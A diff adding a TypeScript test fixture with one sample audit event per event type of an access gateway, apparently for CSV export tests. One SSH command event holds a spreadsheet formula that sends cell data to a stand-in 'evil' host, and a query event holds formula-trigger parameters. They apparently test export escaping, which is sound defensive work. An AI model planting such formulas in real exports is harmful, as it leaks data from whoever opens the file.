@@ -1,0 +1,65 @@
+import { createEvent, type AuditEvent, type EventInput } from '../../src/events/envelope.ts';
+import { EVENT_CATALOG, type EventType } from '../../src/events/catalog.ts';
+
+/**
+ * One realistic event of every catalog type, shaped as the code that emits it shapes it (details included),
+ * for the export tests. A Record over EventType: a new catalog type fails to compile until it has one.
+ */
+const alice = { user: 'alice', roles: ['dba', 'oncall'], cert_serial: '0a1b2c' };
+const admin = { user: 'root-admin', roles: [] as string[] };
+const vigil = { user: 'vigil', roles: ['system'] };
+const client = { ip: '10.0.0.7', port: 50123 };
+const cli = { ip: 'local', via: 'cli:ops@bastion' };
+const pg = { name: 'orders-db', protocol: 'postgres', host: '10.1.2.3', login: 'app', database: 'orders' };
+const my = { name: 'shop-db', protocol: 'mysql', host: '10.1.2.4', login: 'shop', database: 'shop' };
+const ssh = { name: 'web-1', protocol: 'ssh', host: '10.1.2.5', login: 'deploy' };
+const grant = { name: 'grant/01HGRANT', protocol: 'vigil' };
+const access = { request_id: '01HGRANT', user: 'alice', role: 'dba', targets: ['orders-db'], reason: 'INC-42', ttl_ms: 3_600_000, state: 'active', expires_at: '2026-12-06T03:00:00.000Z' };
+
+const EVENTS: Record<EventType, Omit<EventInput, 'type'>> = {
+  'cert.issued': { outcome: 'success', actor: admin, source: cli, target: { name: 'user/alice', protocol: 'vigil' }, details: { serial: '0a1b2c', user: 'alice', roles: ['dba'], kind: 'cert', not_before: '2026-12-06T01:00:00.000Z', not_after: '2026-12-06T02:00:00.000Z', grant_id: null } },
+  'cert.revoked': { outcome: 'success', actor: admin, source: cli, target: { name: 'cert/0a1b2c', protocol: 'vigil' }, details: { serial: '0a1b2c', reason: 'laptop lost' } },
+  'ca.created': { outcome: 'success', actor: admin, source: cli, target: { name: 'ca', protocol: 'vigil' }, details: { ssh_ca_fingerprint: 'SHA256:abc' } },
+  'auth.success': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { method: 'certificate' } },
+  'auth.failure': { outcome: 'failure', actor: { user: 'mallory', roles: [] }, source: { ip: '203.0.113.9', port: 40000 }, target: ssh, details: { method: 'publickey', reason: 'certificate expired' } },
+  // The session that starts here also ends here (session.end below): a session left open would get
+  // session.end gateway_crash from the next writer that opens the log.
+  'session.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { grant_ids: ['01HGRANT'], cert_not_after: '2026-12-06T02:00:00.000Z' } },
+  'session.end': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { reason: 'client_closed', duration_ms: 5230, bytes_from_client: 1200, bytes_to_client: 88000, statements: 0 } },
+  'ssh.exec.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 0, command: 'uptime' } },
+  'ssh.exec': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 0, command: 'uptime', exit_status: 0 } },
+  'ssh.command': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 1, command: '=HYPERLINK("http://evil/"&A1)', source: 'terminal' } },
+  'ssh.sftp': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, op: 'rename', old_path: '/tmp/a.txt', new_path: '/tmp/b.txt', posix: true, result: 'ok' } },
+  'ssh.scp': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 3, op: 'file', direction: 'upload', mode: '0644', size: 12, bytes: 12, path: '/srv/app/config.yml', result: 'ok' } },
+  'ssh.sftp.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, op: 'rename', old_path: '/tmp/a.txt', new_path: '/tmp/b.txt' } },
+  'ssh.sftp.undecodable': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, error: 'unknown packet type 250' } },
+  'ssh.scp.undecodable': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 3, error: 'bad directive', command: 'scp -t /tmp' } },
+  'ssh.forward': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { destination: '10.9.9.9:5432', reason: 'not allowed' } },
+  'ssh.request': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { request: 'auth-agent-req@openssh.com', channel: 0 } },
+  'db.query.start': { outcome: 'unknown', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { sql: 'SELECT pg_sleep(5)', protocol: 'simple' } },
+  'db.query': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { command: 'SELECT', duration_ms: 1.25, params: ['42', '@evil', '-1+2'], protocol: 'extended', rows_returned: 1, sql: 'SELECT * FROM orders WHERE id = $1, "note" = $2\nAND x = $3' } },
+  'db.cancel': { outcome: 'success', actor: alice, source: client, target: my, session_id: 'S-my', details: { command: 'KILL', database: 'shop', gateway_connection_id: 7, kill: 'query', query: 'KILL QUERY 7', target_session_id: 'S-my2' } },
+  'access.requested': { outcome: 'success', actor: alice, source: client, target: grant, details: { ...access, state: 'pending', request_expires_at: '2026-12-06T02:00:00.000Z', approvals_required: 1 } },
+  'access.approved': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { ...access, break_glass: false, approvals: ['bob'] } },
+  'access.approval': { outcome: 'success', actor: { user: 'carol', roles: ['approver'] }, source: client, target: grant, details: { ...access, state: 'pending', approvals: ['carol'] } },
+  'access.denied': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { ...access, state: 'denied', denial_reason: 'not during freeze' } },
+  'access.refused': { outcome: 'failure', actor: alice, source: client, target: grant, details: { action: 'approve', code: 'VIGIL_SELF_APPROVAL', reason: 'you cannot approve your own request', request_id: '01HGRANT' } },
+  'access.revoked': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { ...access, state: 'revoked', revoke_reason: 'done' } },
+  'access.expired': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, state: 'expired' } },
+  'access.request_expired': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, state: 'request_expired' } },
+  'lock.created': { outcome: 'success', actor: admin, source: cli, target: { name: 'user/mallory', protocol: 'vigil' }, details: { user: 'mallory', reason: 'suspicious', expires_at: null } },
+  'lock.deleted': { outcome: 'success', actor: admin, source: cli, target: { name: 'user/mallory', protocol: 'vigil' }, details: { user: 'mallory' } },
+  'api.request': { outcome: 'failure', actor: { user: 'unknown', roles: [] }, source: { ip: '::1', port: 51000, via: 'api' }, target: { name: 'api', protocol: 'https' }, details: { method: 'POST', path: '/v1/access/requests', status: 401, code: 'VIGIL_NO_CERT', message: 'client certificate required' } },
+  'audit.checkpoint': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: { seq: 10, head: 'ab'.repeat(32), sig: 'c2ln', key_id: 'k1', reason: 'interval' } },
+  'audit.started': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: { pid: 1234 } },
+  'audit.stopped': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: {} },
+  'audit.export': { outcome: 'success', actor: admin, source: cli, target: { name: 'audit', protocol: 'vigil' }, details: { format: 'csv', filter: { user: 'alice' }, filter_text: '--user alice', count: 3, out: '/tmp/x.csv' } },
+  'audit.outage': { outcome: 'failure', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: { started: '2026-12-06T01:00:00.000Z', ended: '2026-12-06T01:00:05.000Z', duration_ms: 5000, reason: 'ENOSPC', events_refused: 3, session_ends_recorded_late: 1 } },
+  'gateway.started': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'gateway', protocol: 'vigil' }, details: { ports: { ssh: 2222 } } },
+  'gateway.stopped': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'gateway', protocol: 'vigil' }, details: {} },
+};
+
+/** One event per catalog type, in catalog order. */
+export function oneEventOfEachType(): AuditEvent[] {
+  return (Object.keys(EVENT_CATALOG) as EventType[]).map((type) => createEvent({ type, ...EVENTS[type] }));
+}
